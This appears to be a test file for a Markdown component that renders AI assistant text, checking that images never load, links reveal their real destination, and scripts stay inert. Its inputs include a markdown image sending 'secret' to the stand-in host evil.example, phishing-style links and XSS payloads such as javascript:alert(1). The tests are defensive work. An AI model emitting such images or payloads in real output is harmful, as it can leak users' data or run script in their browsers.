// Text of the assistant cannot fetch, run or pretend anything.

import { render } from '@testing-library/react';
import { expect, it } from 'vitest';
import Markdown from '@/ui/Markdown';

const draw = (text: string, isGrowing = false) => render(<Markdown text={text} isGrowing={isGrowing} />).container;

it('no image is ever loaded', () => {
  const page = draw('![secret](https://evil.example/?q=secret) ![](x)');
  expect(page.querySelector('img')).toBeNull();
  expect(page.textContent).toContain('[image: secret]');
});

it('a link says where it leads and tells that place nothing', () => {
  const link = draw('[your bank](https://evil.example/login)').querySelector('a');
  expect(link?.textContent).toBe('your bank(evil.example)');
  expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  expect(link?.getAttribute('target')).toBe('_blank');
});

it('a link that claims to be another address says where it leads', () => {
  expect(draw('[https://bank.example](https://evil.example)').textContent).toContain('(evil.example)');
  expect(draw('https://bank.example/').textContent).not.toContain('(');
});

it.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'http://'])('%s is not a link', (address) => {
  expect(draw(`[press](${address})`).querySelector('a')).toBeNull();
});

it('raw HTML is text', () => {
  const page = draw('<script>alert(1)</script><b onclick="x">bold</b>');
  expect(page.querySelector('script, b')).toBeNull();
});

it('half a sentence is already drawn as what it will be', () => {
  expect(draw('This is **impor', true).querySelector('strong')?.textContent).toBe('impor');
});

it('code is kept in one piece, blank lines and all', () => {
  const page = draw('before\n\n```php\none\n\ntwo\n```\n\nafter');
  expect(page.querySelectorAll('pre')).toHaveLength(1);
  expect(page.querySelector('pre')?.textContent).toBe('one\n\ntwo\n');
});

it('no inline style is written', () => {
  expect(draw('| a | b |\n| :-: | --: |\n| 1 | 2 |').querySelector('[style]')).toBeNull();
});
